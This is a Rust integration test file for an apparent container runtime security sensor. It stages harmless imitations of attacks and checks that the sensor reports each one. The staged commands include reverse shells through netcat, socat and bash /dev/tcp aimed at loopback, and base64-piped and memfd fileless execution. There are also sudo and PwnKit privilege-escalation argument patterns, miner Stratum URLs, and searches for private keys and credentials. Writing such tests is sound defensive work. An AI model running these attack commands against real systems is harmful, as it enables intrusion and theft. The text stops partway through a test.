        assert_container_fields(f, &c);
    };
    check_binary(
        "BUILT_IN_MALICIOUS_BINARY_EXECUTED",
        builtin_path,
        &builtin_sha,
        "lower",
        "Test.Builtin",
    );
    check_binary(
        "ADDED_MALICIOUS_BINARY_EXECUTED",
        "/tmp/added-tool",
        &builtin_sha,
        "upper",
        "Test.Builtin",
    );
    check_binary(
        "MODIFIED_MALICIOUS_BINARY_EXECUTED",
        victim_path,
        &modified_sha,
        "copied_up",
        "Test.Modified",
    );
    assert_eq!(
        in_container(&stopped, "BUILT_IN_MALICIOUS_BINARY_EXECUTED", &c).len(),
        1
    );
    assert_eq!(
        in_container(&stopped, "ADDED_MALICIOUS_BINARY_EXECUTED", &c).len(),
        1
    );
    assert_eq!(
        in_container(&stopped, "MODIFIED_MALICIOUS_BINARY_EXECUTED", &c).len(),
        1
    );

    let compilers = in_container(&stopped, "LAUNCH_CODE_COMPILER_TOOL_IN_CONTAINER", &c);
    assert_eq!(compilers.len(), 1, "{compilers:#?}");
    let f = compilers[0];
    assert_eq!(f["finding"]["sourceProperties"]["Compiler_Tool"], "gcc");
    assert_eq!(f["finding"]["severity"], "LOW");
    assert_eq!(
        f["finding"]["processes"][0]["args"],
        serde_json::json!(["gcc", "-o", cc_out, cc_src])
    );
    assert_container_fields(f, &c);

    let shells = in_container(&stopped, "REVERSE_SHELL", &c);
    assert_eq!(shells.len(), 1, "{shells:#?}");
    assert_socket_props(
        shells[0],
        "Reverse_Shell_Stdin_Redirection_",
        "127.0.0.1",
        port,
        peer,
    );
    assert_container_fields(shells[0], &c);
    let mut commands: Vec<&str> =
        in_container(&stopped, "POSSIBLE_REMOTE_COMMAND_EXECUTION_DETECTED", &c)
            .iter()
            .map(|f| {
                assert_container_fields(f, &c);
                f["finding"]["sourceProperties"]["Remote_Command"]
                    .as_str()
                    .unwrap()
            })
            .collect();
    commands.sort_unstable();
    assert_eq!(commands, vec!["id", "uname", "whoami"]);

    // The Python script was captured from inside the container although it exited at once.
    let events = std::fs::read_to_string(stopped.dir.path().join("events.jsonl")).unwrap();
    let py: Value = events
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .find(|e| e["kind"] == "exec" && e["argv"][1] == "/tmp/job.py")
        .expect("python exec recorded");
    assert_eq!(py["container"]["id"], c.id());
    assert_eq!(py["script"]["path"], "/tmp/job.py", "{py}");
    assert!(py["script"]["contents"]
        .as_str()
        .unwrap()
        .contains("json.dumps"));

    // The copied tool (upper layer) and the overwritten image binary (copied up) are also
    // added binaries; nothing else is.
    let added = in_container(&stopped, "ADDED_BINARY_EXECUTED", &c);
    let mut layers: Vec<(&str, &str)> = added
        .iter()
        .map(|f| {
            assert_container_fields(f, &c);
            (
                f["finding"]["processes"][0]["binary"]["path"]
                    .as_str()
                    .unwrap(),
                f["finding"]["sourceProperties"]["Binary_Layer"]
                    .as_str()
                    .unwrap(),
            )
        })
        .collect();
    layers.sort_unstable();
    let mut want = vec![("/tmp/added-tool", "upper"), (victim_path, "copied_up")];
    want.sort_unstable();
    assert_eq!(layers, want);

    // Nothing else: the benign copies, pipelines and Python script reported nothing.
    let total = added.len()
        + in_container(&stopped, "BUILT_IN_MALICIOUS_BINARY_EXECUTED", &c).len()
        + in_container(&stopped, "ADDED_MALICIOUS_BINARY_EXECUTED", &c).len()
        + in_container(&stopped, "MODIFIED_MALICIOUS_BINARY_EXECUTED", &c).len()
        + compilers.len()
        + shells.len()
        + commands.len()
        + python.len();
    let all_in_container = all_in_container(&stopped, &c).len();
    assert_eq!(all_in_container, total, "{:#?}", stopped.findings);
    drop(c);
}

/// Command-line attack patterns in a real container: a miner pointed at a Stratum pool (through
/// `sh -c` and directly), `sudo -u#-1` (CVE-2019-14287) and `sudoedit -s '\\'` (CVE-2021-3156),
/// with benign look-alikes that must report nothing. The "tools" are copies of /bin/true under
/// the names that matter, so nothing real is exploited or mined.
#[test]
fn mining_and_sudo_exploit_patterns_inside_a_real_container() {
    if !live_allowed("mining_and_sudo_exploit_patterns_inside_a_real_container") {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let image_dir = image_dir();
    let tool = |name: &str| image_tool(&image_dir, name);
    let (miner, sudo, sudoedit) = (tool("kworker"), tool("sudo"), tool("sudoedit"));
    // pkexec: a copy of sleep, so that the process lives long enough for its environment to
    // be read (the sensor reads it from /proc once the exec is seen).
    let pkexec_file = ImageFile::create(
        image_dir.path(),
        "pkexec",
        &std::fs::read("/usr/bin/sleep").unwrap(),
    );
    let pkexec = pkexec_file.0.to_str().unwrap().to_owned();
    // The PwnKit exploit's exec: pkexec with no arguments at all (argc 0) and the environment
    // the public exploits pass. Only a compiled program can exec with an empty argv.
    let argc0 = image_dir.path().join("argc0");
    let src = image_dir.path().join("argc0.c");
    std::fs::write(
        &src,
        "#include <unistd.h>\nint main(int c, char **v) { (void)c; char *a[] = {0};\n\
         char *e[] = {\"pwnkit\", \"PATH=GCONV_PATH=.\", \"CHARSET=PWNKIT\", \"SHELL=pwnkit\", 0};\n\
         execve(v[1], a, e); return 127; }\n",
    )
    .unwrap();
    let cc = Command::new("cc")
        .arg("-o")
        .arg(&argc0)
        .arg(&src)
        .output()
        .unwrap();
    assert!(
        cc.status.success(),
        "{}",
        String::from_utf8_lossy(&cc.stderr)
    );
    let argc0 = argc0.to_str().unwrap().to_owned();

    let watch = Watch::start(&[]);
    let c = TestContainer::start("batch", "registry.example.com/shop/batch:7");
    let ok = |argv: &[&str]| {
        let out = c.exec(argv);
        assert!(
            out.status.success(),
            "{argv:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    // Attacks.
    ok(&[
        "sh",
        "-c",
        &format!("{miner} -o stratum+tcp://127.0.0.1:3333 -u 4AexampleWallet -p x; true"),
    ]);
    ok(&[
        &miner,
        "--url=stratum+ssl://[::1]:3334",
        "--user=4BexampleWallet",
    ]);
    ok(&[&sudo, "-u#-1", "id"]);
    let overflow = format!("{}\\", "A".repeat(1000));
    ok(&[&sudoedit, "-s", "\\", &overflow]);
    // pkexec with argc 0 (sleep then aborts at once, so its status does not matter, nor is
    // its environment read in time), and with GCONV_PATH set.
    let _ = c.exec(&[&argc0, &pkexec]);
    ok(&["env", "GCONV_PATH=/tmp/pwn", &pkexec, "1"]);
    // Look-alikes.
    ok(&[
        "sh",
        "-c",
        "echo 'pool: stratum' > /tmp/notes.txt && grep -c stratum /tmp/notes.txt",
    ]);
    ok(&[&miner, "--config=/etc/stratum.json"]);
    ok(&[&sudo, "-u", "postgres", "id"]);
    ok(&[&sudo, "-u#1000", "id"]);
    ok(&[&sudoedit, "-s", "/"]);
    ok(&[&sudoedit, "/etc/hosts"]);
    ok(&[&pkexec, "--version"]);
    ok(&["env", "CHARSET=UTF-8", &pkexec, "1"]);
    let stopped = watch.stop();

    let mining = in_container(
        &stopped,
        "SUSPICIOUS_CRYPTO_MINING_ACTIVITY_USING_STRATUM_PROTOCOL",
        &c,
    );
    assert_eq!(mining.len(), 2, "{mining:#?}");
    let by_url = |url: &str| {
        mining
            .iter()
            .find(|f| f["finding"]["sourceProperties"]["Stratum_Url"] == url)
            .copied()
            .unwrap_or_else(|| panic!("no finding for {url}: {mining:#?}"))
    };
    let tcp = by_url("stratum+tcp://127.0.0.1:3333");
    assert_eq!(tcp["finding"]["indicator"]["ipAddresses"][0], "127.0.0.1");
    assert_eq!(tcp["finding"]["severity"], "HIGH");
    assert_container_fields(tcp, &c);
    let ssl = by_url("stratum+ssl://[::1]:3334");
    let p = &ssl["finding"]["sourceProperties"];
    assert_eq!(p["Stratum_Host"], "::1");
    assert_eq!(p["Stratum_Port"], "3334");
    assert_eq!(p["Stratum_Argument_Index"], 1);
    assert_eq!(
        ssl["finding"]["processes"][0]["binary"]["path"],
        miner.as_str()
    );

    let uid = in_container(&stopped, "ABUSE_SUDO_FOR_PRIVILEGE_ESCALATION", &c);
    assert_eq!(uid.len(), 1, "{uid:#?}");
    let p = &uid[0]["finding"]["sourceProperties"];
    assert_eq!(p["Sudo_Target_User"], "#-1");
    assert_eq!(p["Sudo_Command"], "id");
    assert_eq!(p["Cve"], "CVE-2019-14287");
    assert_container_fields(uid[0], &c);

    let samedit = in_container(&stopped, "SUDO_POTENTIAL_PRIVILEGE_ESCALATION", &c);
    assert_eq!(samedit.len(), 1, "{samedit:#?}");
    let p = &samedit[0]["finding"]["sourceProperties"];
    assert_eq!(p["Cve"], "CVE-2021-3156");
    assert_eq!(p["Sudo_Mode"], "-s");
    assert_eq!(p["Backslash_Argument_Index"], 2);
    assert_eq!(
        samedit[0]["finding"]["processes"][0]["args"][3]
            .as_str()
            .unwrap()
            .len(),
        overflow.len()
    );

    let pwnkit = in_container(
        &stopped,
        "POLKIT_LOCAL_PRIVILEGE_ESCALATION_VULNERABILITY",
        &c,
    );
    assert_eq!(pwnkit.len(), 2, "{pwnkit:#?}");
    let p = &pwnkit[0]["finding"]["sourceProperties"];
    assert_eq!(p["Cve"], "CVE-2021-4034");
    assert_eq!(p["Pkexec_Argument_Count"], 0, "{p}");
    assert_eq!(
        pwnkit[0]["finding"]["processes"][0]["binary"]["path"],
        pkexec.as_str()
    );
    let p = &pwnkit[1]["finding"]["sourceProperties"];
    assert_eq!(p["Gconv_Variable"], "GCONV_PATH", "{p}");
    assert_eq!(p["Gconv_Value"], "/tmp/pwn", "{p}");
    assert_container_fields(pwnkit[1], &c);

    let all_in_container = all_in_container(&stopped, &c).len();
    assert_eq!(all_in_container, 6, "{:#?}", stopped.findings);
    drop(c);
}

/// Tool, escape and credential-hunting patterns in a real container, each triggered for real
/// and harmlessly: named tools are copies of /bin/true (or a shell script that exits), the
/// searches run real `grep`/`find` over paths without secrets, `nsenter -t 1` targets the
/// container's own init, the release_agent "write" goes to a file in /tmp, and `scp` tries a
/// closed port on loopback. Benign look-alikes must report nothing.
#[test]
fn tool_escape_and_secret_search_patterns_inside_a_real_container() {
    if !live_allowed("tool_escape_and_secret_search_patterns_inside_a_real_container") {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let image_dir = image_dir();
    let tool = |name: &str| image_tool(&image_dir, name);
    let (peirates, cdk) = (tool("peirates"), tool("cdk"));
    let linpeas = ImageFile::create(image_dir.path(), "linpeas.sh", b"#!/bin/sh\nexit 0\n");
    let linpeas = linpeas.0.to_str().unwrap().to_owned();
    // A closed port on loopback for scp to fail against.
    let closed = TcpListener::bind("127.0.0.1:0").unwrap();
    let closed_port = closed.local_addr().unwrap().port();
    drop(closed);

    let watch = Watch::start(&[]);
    let c = TestContainer::start("ops", "registry.example.com/shop/ops:3");
    let run = |argv: &[&str]| {
        c.exec(argv);
    };
    // Attacks (exit statuses do not matter: the execs are what is detected).
    run(&["sh", &linpeas]);
    run(&[&peirates]);
    run(&[&cdk, "evaluate"]);
    run(&["nsenter", "-t", "1", "-m", "--", "true"]);
    run(&["sh", "-c", "echo 1 > /tmp/notify_on_release"]);
    run(&["grep", "-rl", "BEGIN OPENSSH PRIVATE KEY", "/etc/ssh"]);
    run(&[
        "find",
        "/tmp",
        "-name",
        "application_default_credentials.json",
    ]);
    let remote = "nobody@127.0.0.1:/tmp/".to_owned();
    run(&[
        "scp",
        "-o",
        "BatchMode=yes",
        "-o",
        "ConnectTimeout=2",
        "-P",
        &closed_port.to_string(),
        "/etc/hostname",
        &remote,
    ]);
    // Look-alikes.
    run(&["sh", "-c", "echo hello > /tmp/les-notes.txt"]);
    run(&["grep", "-c", "password", "/etc/login.defs"]);
    run(&["find", "/tmp", "-name", "*.txt"]);
    run(&["nsenter", "--help"]);
    run(&["cp", "/etc/hostname", "/tmp/hostname.copy"]);
    let stopped = watch.stop();

    let props = |module: &str| -> Value {
        let hits = in_container(&stopped, module, &c);
        assert_eq!(hits.len(), 1, "{module}: {hits:#?}");
        assert_container_fields(hits[0], &c);
        hits[0]["finding"]["sourceProperties"].clone()
    };
    let recon = props("LOCAL_RECONNAISSANCE_TOOL_EXECUTION");
    assert_eq!(recon["Tool_Name"], "linpeas");
    assert_eq!(recon["Tool_Matched_By"], "script");
    assert_eq!(
        props("KUBERNETES_ATTACK_TOOL_EXECUTION")["Tool_Name"],
        "peirates"
    );
    let escapes = in_container(&stopped, "CONTAINER_ESCAPE", &c);
    let mut techniques: Vec<&str> = escapes
        .iter()
        .map(|f| {
            f["finding"]["sourceProperties"]["Escape_Technique"]
                .as_str()
                .unwrap()
        })
        .collect();
    techniques.sort_unstable();
    assert_eq!(
        techniques,
        ["cgroup-release-agent", "nsenter-pid1", "tool"],
        "{escapes:#?}"
    );
    assert_eq!(
        props("SEARCH_PRIVATE_KEYS_OR_PASSWORDS")["Search_Pattern"],
        "private key"
    );
    assert_eq!(
        props("FIND_GCP_CREDENTIALS")["Search_Pattern"],
        "application_default_credentials"
    );
    let copy = props("LAUNCH_REMOTE_FILE_COPY_TOOLS_IN_CONTAINER");
    assert_eq!(copy["Copy_Tool"], "scp");
    assert_eq!(copy["Copy_Remote"], remote.as_str());

    let all_in_container = all_in_container(&stopped, &c).len();
    assert_eq!(all_in_container, 8, "{:#?}", stopped.findings);
    drop(c);
}

/// Shells and payloads delivered the ways attackers do it, for real, on loopback: a netcat
/// (`busybox nc -e`) and a socat (`EXEC:…,pty`) reverse shell to listeners of this test, a
/// base64-encoded shell command piped into `sh`, a program run from a memfd and from /dev/shm,
/// a shell started by a process called gunicorn, and a binary copied into the container and run.
/// Look-alikes (a plain netcat port check, a socat relay, base64 data, a shell under an
/// entrypoint) report nothing.
#[test]
fn shells_payloads_and_fileless_execution_inside_a_real_container() {
    if !live_allowed("shells_payloads_and_fileless_execution_inside_a_real_container") {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let image_dir = image_dir();
    let gunicorn = image_dir.path().join("gunicorn");
    std::os::unix::fs::symlink("/usr/bin/python3", &gunicorn).unwrap();
    let gunicorn = gunicorn.to_str().unwrap().to_owned();

    let watch = Watch::start(&[]);
    let c = TestContainer::start("api", "registry.example.com/shop/api:5");
    // A reverse shell to `listener` through `argv`; the test types a command into it.
    let shell_through = |argv: &[&str], listener: &TcpListener| {
        let mut child = c.spawn(argv);
        let (mut conn, _) = listener.accept().unwrap();
        conn.set_read_timeout(Some(Duration::from_secs(10)))
            .unwrap();
        conn.write_all(b"echo shrike-$((6*7))\nexit\n").unwrap();
        let mut out = String::new();
        let _ = conn.read_to_string(&mut out);
        assert!(out.contains("shrike-42"), "{argv:?}: {out}");
        drop(conn);
        let _ = child.wait();
    };
    let nc_listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let nc_port = nc_listener.local_addr().unwrap().port().to_string();
    shell_through(
        &["busybox", "nc", "127.0.0.1", &nc_port, "-e", "/bin/sh"],
        &nc_listener,
    );
    let socat_listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let socat_address = format!(
        "TCP:127.0.0.1:{}",
        socat_listener.local_addr().unwrap().port()
    );
    shell_through(
        &["socat", &socat_address, "EXEC:/bin/sh,pty,stderr"],
        &socat_listener,
    );
    // `/bin/sh -c 'echo shrike-b64'`, base64-encoded and piped into sh.
    let encoded = "L2Jpbi9zaCAtYyAnZWNobyBzaHJpa2UtYjY0Jwo=";
    let out = c.exec(&["sh", "-c", &format!("echo {encoded} | base64 -d | sh")]);
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("shrike-b64"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let memfd = "import os; fd = os.memfd_create('payload'); \
                 os.write(fd, open('/usr/bin/true', 'rb').read()); \
                 os.execv(f'/proc/self/fd/{fd}', ['kworker'])";
    assert!(c.exec(&["/usr/bin/python3", "-c", memfd]).status.success());
    assert!(c
        .exec(&["sh", "-c", "cp /usr/bin/true /dev/shm/.u && /dev/shm/.u"])
        .status
        .success());
    assert!(c
        .exec(&[&gunicorn, "-c", "import os; os.system('true')"])
        .status
        .success());
    assert!(c
        .exec(&["sh", "-c", "cp /usr/bin/true /tmp/helper && /tmp/helper"])
        .status
        .success());
    // Look-alikes.
    let closed = TcpListener::bind("127.0.0.1:0").unwrap();
    let closed_port = closed.local_addr().unwrap().port().to_string();
    drop(closed);
    c.exec(&["busybox", "nc", "-w", "1", "127.0.0.1", &closed_port]);
    c.exec(&[
        "socat",
        "-T",
        "1",
        "OPEN:/dev/null",
        &format!("TCP:127.0.0.1:{closed_port}"),
    ]);
    c.exec(&[
        "sh",
        "-c",
        "echo eyJ1c2VyIjoiYXBwIiwicm9sZSI6InJlYWRlciIsInRlYW0iOiJwYXltZW50cyJ9 | base64 -d",
    ]);
    c.exec(&["sh", "-c", "sh -c 'echo entrypoint'"]);
    let stopped = watch.stop();

    let one = |module: &str| -> Value {
        let hits = in_container(&stopped, module, &c);
        assert_eq!(hits.len(), 1, "{module}: {hits:#?}");
        assert_container_fields(hits[0], &c);
        hits[0]["finding"]["sourceProperties"].clone()
    };
    let nc = one("NETCAT_REMOTE_CODE_EXECUTION_IN_CONTAINER");
    assert_eq!(nc["Netcat_Exec"], "/bin/sh");
    assert_eq!(nc["Netcat_Mode"], "connect");
    let socat = one("SOCAT_REVERSE_SHELL_DETECTED");
    assert_eq!(socat["Socat_Network_Address"], socat_address.as_str());
    assert_eq!(socat["Socat_Exec_Address"], "EXEC:/bin/sh,pty,stderr");
    let b64 = one("BASE64_ENCODED_SHELL_SCRIPT_EXECUTED");
    assert_eq!(b64["Encoded_Snippet"], encoded);
    assert!(b64["Decoded_Preview"]
        .as_str()
        .unwrap()
        .starts_with("/bin/sh -c 'echo shrike-b64'"));
    assert_eq!(
        one("FILELESS_EXECUTION_DETECTION_MEMFD")["Memfd_Name"],
        "payload"
    );
    assert_eq!(
        one("FILELESS_EXECUTION_DETECTION_SHM")["Binary_Path"],
        "/dev/shm/.u"
    );
    let child = one("UNEXPECTED_CHILD_SHELL");
    assert_eq!(child["Parent_Binary"], "/usr/bin/python3.11");
    let added = one("ADDED_BINARY_EXECUTED");
    assert_eq!(added["Binary_Layer"], "upper");

    // The shell netcat started has the connection on its stdin: a Reverse Shell too (socat's
    // has a pty, which is why its own finding exists).
    let reverse = in_container(&stopped, "REVERSE_SHELL", &c);
    assert_eq!(reverse.len(), 1, "{reverse:#?}");
    assert_eq!(
        reverse[0]["finding"]["sourceProperties"]["Reverse_Shell_Stdin_Redirection_Dst_Port"]
            .to_string(),
        nc_port
    );

    // Nothing else, except what the Python model makes of the two one-liners.
    let others: Vec<&Value> = all_in_container(&stopped, &c)
        .into_iter()
        .filter(|f| {
            ![
                "NETCAT_REMOTE_CODE_EXECUTION_IN_CONTAINER",
                "SOCAT_REVERSE_SHELL_DETECTED",
                "BASE64_ENCODED_SHELL_SCRIPT_EXECUTED",
                "FILELESS_EXECUTION_DETECTION_MEMFD",
                "FILELESS_EXECUTION_DETECTION_SHM",
                "UNEXPECTED_CHILD_SHELL",
                "ADDED_BINARY_EXECUTED",
                "REVERSE_SHELL",
                "MALICIOUS_PYTHON_EXECUTED",
            ]
            .contains(&f["finding"]["moduleName"].as_str().unwrap_or(""))
        })
        .collect();
    assert!(others.is_empty(), "{others:#?}");
    drop(c);
}

/// Whoever stops the sensor leaves a loud record: a stop by SIGTERM is logged at error level
/// with the signal's name, and after a SIGKILL the next run says the previous one ended without
/// a clean stop and how long the host went unwatched.
#[test]
fn stops_and_kills_leave_a_loud_record() {
    if !live_allowed("stops_and_kills_leave_a_loud_record") {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let data = tempfile::tempdir().unwrap();
    let data_dir = data.path().to_str().unwrap();
    let state = data.path().join("shrike-watch.state");
    let unclean = "ended without a clean stop";

    let stopped = Watch::start(&["--data-dir", data_dir]).stop();
    assert!(
        stopped
            .log
            .iter()
            .any(|l| l.contains("ERROR") && l.contains("stopping on SIGTERM")),
        "{:?}",
        stopped.log
    );
    assert!(!stopped.log.iter().any(|l| l.contains(unclean)));
    let clean: Value = serde_json::from_str(&std::fs::read_to_string(&state).unwrap()).unwrap();
    assert_eq!(clean["clean"], true, "{clean}");
    use std::os::unix::fs::PermissionsExt as _;
    assert_eq!(
        std::fs::metadata(&state).unwrap().permissions().mode() & 0o777,
        0o600
    );

    let killed = Watch::start(&["--data-dir", data_dir]);
    let killed_pid = killed.child.id();
    let log = killed.kill();
    assert!(!log.iter().any(|l| l.contains(unclean)), "{log:?}");

    let after = Watch::start(&["--data-dir", data_dir]).stop();
    let record = after
        .log
        .iter()
        .find(|l| l.contains(unclean))
        .unwrap_or_else(|| panic!("no record of the kill: {:?}", after.log));
    assert!(record.contains("ERROR"), "{record}");
    assert!(record.contains(&format!("pid {killed_pid}")), "{record}");
}

#[test]
fn record_writes_the_enriched_stream_and_stops_on_sigint() {
    if !live_allowed("record_writes_the_enriched_stream_and_stops_on_sigint") {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("events.jsonl");
    let mut child = Command::new(assert_cmd::cargo::cargo_bin("shrike"))
        .args(["record", "--output"])
        .arg(&out)
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stderr = BufReader::new(child.stderr.take().unwrap());
    let mut line = String::new();
    while !line.contains("sensor attached") {
        line.clear();
        assert!(stderr.read_line(&mut line).unwrap() > 0, "record died");
    }
    let marker = format!("shrike-record-marker-{}", std::process::id());
    let ran = Command::new("/usr/bin/printf")
        .arg(&marker)
        .output()
        .unwrap();
    assert!(ran.status.success());
    std::thread::sleep(Duration::from_millis(500));
    assert!(Command::new("kill")
        .args(["-INT", &child.id().to_string()])
        .status()
        .unwrap()
        .success());
    let status = child.wait().unwrap();
    let mut rest = String::new();
    stderr.read_to_string(&mut rest).unwrap();
    assert!(status.success(), "{rest}");
    assert!(rest.contains("lost: 0 in the kernel"), "{rest}");
    let text = std::fs::read_to_string(&out).unwrap();
    let exec: Value = text
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .find(|e| e["kind"] == "exec" && e["argv"][1] == marker.as_str())
        .expect("the marker exec was recorded");
    assert_eq!(exec["v"], 1);
    assert_eq!(exec["exe"]["path"], "/usr/bin/printf");
    assert_eq!(exec["exe"]["layer"], "host");
    assert_eq!(exec["exe"]["sha256"].as_str().unwrap().len(), 64);
    assert_eq!(
        exec["stdio"][1]["kind"], "pipe",
        "stdout was captured by this test: {exec}"
    );
    assert!(
        exec["time_ns"].as_u64().unwrap() > 1_700_000_000_000_000_000,
        "wall-clock ns"
    );
    let pid = exec["pid"].as_u64().unwrap();
    assert!(text
        .lines()
        .any(|l| l.contains(r#""kind":"fork""#) && l.contains(&format!(r#""pid":{pid},"#))));
    assert!(text
        .lines()
        .any(|l| l.contains(r#""kind":"exit""#) && l.contains(&format!(r#""pid":{pid},"#))));
    // The recording replays cleanly.
    assert_cmd::Command::cargo_bin("shrike")
        .unwrap()
        .arg("replay")
        .arg(&out)
        .assert()
        .success();
}

#[test]
fn memfd_execution_is_flagged_hashed_and_matched() {
    if !live_allowed("memfd_execution_is_flagged_hashed_and_matched") {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    use sha2::Digest;
    let sleep = std::fs::read("/usr/bin/sleep").unwrap();
    let sha = hex::encode(sha2::Sha256::digest(&sleep));
    let dir = tempfile::tempdir().unwrap();
    let feed = dir.path().join("feed.txt");
    std::fs::write(&feed, format!("{sha}\n")).unwrap();
    let watch = Watch::start(&["--intel", feed.to_str().unwrap()]);
    // A fileless loader: the binary only ever exists in memory.
    let loader = "import os; fd = os.memfd_create('payload'); os.write(fd, open('/usr/bin/sleep', 'rb').read()); os.execve(f'/proc/self/fd/{fd}', ['kworker', '2'], {})";
    let status = Command::new("/usr/bin/python3")
        .args(["-c", loader])
        .status()
        .unwrap();
    assert!(status.success());
    let stopped = watch.stop();
    let f = stopped
        .of_module("ADDED_MALICIOUS_BINARY_EXECUTED")
        .find(|f| f["finding"]["processes"][0]["args"][0] == "kworker")
        .unwrap_or_else(|| panic!("memfd exec not reported: {:#?}", stopped.findings));
    let f = &f["finding"];
    assert_eq!(f["sourceProperties"]["Binary_Layer"], "memfd");
    assert_eq!(f["sourceProperties"]["Binary_Sha256"], sha.as_str());
    assert!(
        f["processes"][0]["binary"]["path"]
            .as_str()
            .unwrap()
            .starts_with("/memfd:payload"),
        "{f}"
    );
}

/// YARA rules given with `--intel`: an executable whose contents match fires the
/// malicious-binary finding of its layer with the rule in `indicator.signatures`, in a real
/// container; executables that match nothing stay silent, and every exec records the verdict.
#[test]
fn yara_rules_fire_on_matching_executables_in_a_real_container() {
    if !live_allowed("yara_rules_fire_on_matching_executables_in_a_real_container") {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let image_dir = image_dir();
    let marker = format!(
        "SHRIKE-YARA-LIVE-{}-{:?}",
        std::process::id(),
        Instant::now()
    );
    // A working executable carrying the marker, in the image; a clean one beside it.
    let (bytes, sha) = tool_bytes(&marker);
    let tool = ImageFile::create(image_dir.path(), "yara-tool", &bytes);
    let clean = image_tool(&image_dir, "clean-tool");
    let rules_dir = tempfile::tempdir().unwrap();
    let rules = rules_dir.path().join("live.yar");
    std::fs::write(
        &rules,
        format!(
            "rule shrike_live_marker : test {{\n  strings:\n    $m = \"{marker}\"\n  condition:\n    uint32(0) == 0x464c457f and $m\n}}\n\
             rule shrike_live_script {{\n  strings:\n    $s = \"script-{marker}\"\n  condition:\n    uint16(0) == 0x2123 and $s\n}}\n"
        ),
    )
    .unwrap();

    let watch = Watch::start(&["--intel", rules.to_str().unwrap()]);
    let c = TestContainer::start("yara-web", "registry.example.com/yara/web:1");
    let tool_path = tool.0.to_str().unwrap();
    assert!(c.exec(&[tool_path]).status.success());
    assert!(c
        .exec(&[
            "sh",
            "-c",
            &format!("cp {tool_path} /tmp/yara-added && /tmp/yara-added")
        ])
        .status
        .success());
    assert!(c.exec(&[&clean]).status.success());
    assert!(c.exec(&["sh", "-c", "ls / | wc -l"]).status.success());
    // A dropped `#!` script carrying the script marker, run directly; a clean one beside it.
    let script = format!(
        "printf '#!/bin/sh\\n# script-{marker}\\nexit 0\\n' > /tmp/yara-drop.sh && chmod +x /tmp/yara-drop.sh && /tmp/yara-drop.sh"
    );
    assert!(c.exec(&["sh", "-c", &script]).status.success());
    assert!(c
        .exec(&["sh", "-c", "printf '#!/bin/sh\\nexit 0\\n' > /tmp/yara-ok.sh && chmod +x /tmp/yara-ok.sh && /tmp/yara-ok.sh"])
        .status
        .success());
    let stopped = watch.stop();

    for (module, path, layer) in [
        ("BUILT_IN_MALICIOUS_BINARY_EXECUTED", tool_path, "lower"),
        (
            "ADDED_MALICIOUS_BINARY_EXECUTED",
            "/tmp/yara-added",
            "upper",
        ),
    ] {
        let found = in_container(&stopped, module, &c);
        assert_eq!(found.len(), 1, "{module}: {found:#?}");
        let f = found[0];
        assert_eq!(f["finding"]["processes"][0]["binary"]["path"], path, "{f}");
        let props = &f["finding"]["sourceProperties"];
        assert_eq!(props["Yara_Rules"], "shrike_live_marker", "{f}");
        assert_eq!(props["Yara_Rule_Files"], rules.to_str().unwrap(), "{f}");
        assert_eq!(props["Binary_Layer"], layer, "{f}");
        assert_eq!(props["Binary_Sha256"], sha.as_str(), "{f}");
        assert_eq!(
            f["finding"]["indicator"]["signatures"][0]["yaraRuleSignature"]["yaraRule"],
            "shrike_live_marker",
            "{f}"
        );
        assert_container_fields(f, &c);
    }
    let scripts = in_container(&stopped, "MALICIOUS_SCRIPT_EXECUTED", &c);
    assert_eq!(scripts.len(), 1, "{scripts:#?}");
    let f = &scripts[0]["finding"];
    assert_eq!(
        f["sourceProperties"]["Script_Path"], "/tmp/yara-drop.sh",
        "{f}"
    );
    assert_eq!(
        f["sourceProperties"]["Yara_Rules"], "shrike_live_script",
        "{f}"
    );
    assert_eq!(
        f["processes"][0]["script"]["path"], "/tmp/yara-drop.sh",
        "{f}"
    );
    assert!(
        f["processes"][0]["script"]["contents"]
            .as_str()
            .unwrap()
            .contains(&format!("script-{marker}")),
        "{f}"
    );
    // Nothing else in the container is called malicious.
    for f in all_in_container(&stopped, &c) {
        let module = f["finding"]["moduleName"].as_str().unwrap();
        assert!(
            !module.contains("MALICIOUS")
                || f["finding"]["sourceProperties"]["Yara_Rules"] == "shrike_live_marker"
                || f["finding"]["sourceProperties"]["Yara_Rules"] == "shrike_live_script",
            "{f}"
        );
    }
    // The recording keeps each verdict: the match, and the clean tool's empty one.
    let execs = recorded_execs(&stopped);
    let matched = exec_with_arg(&execs, 0, tool_path);
    assert_eq!(matched["exe"]["yara"][0]["rule"], "shrike_live_marker");
    assert_eq!(matched["exe"]["yara"][0]["tags"][0], "test");
    let clean_exec = exec_with_arg(&execs, 0, &clean);
    assert!(clean_exec["exe"].get("yara").is_none(), "{clean_exec}");
    assert!(
        clean_exec["exe"].get("yara_error").is_none(),
        "{clean_exec}"
    );
    assert!(clean_exec["exe"]["sha256"].is_string());
    // A replay of the recording finds the same, from the recorded matches.
    assert_recording_replays(&stopped);
}

#[test]
fn shell_scripts_run_in_a_real_container_are_scored() {
    if !live_allowed("shell_scripts_run_in_a_real_container_are_scored") {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let watch = Watch::start(&[]);
    let c = TestContainer::start("script-web", "registry.example.com/script/web:1");
    // Each script is harmless to run (the attack lines sit behind a test that is false), and the
    // scoring reads the text: a reverse shell run as `sh FILE`, a dropper run by its `#!` line.
    let setup = r#"
cat > /tmp/tunnel.sh <<'END'
if [ -n "$SHRIKE_NEVER_SET" ]; then
  bash -i >& /dev/tcp/127.0.0.1/9 0>&1
fi
END
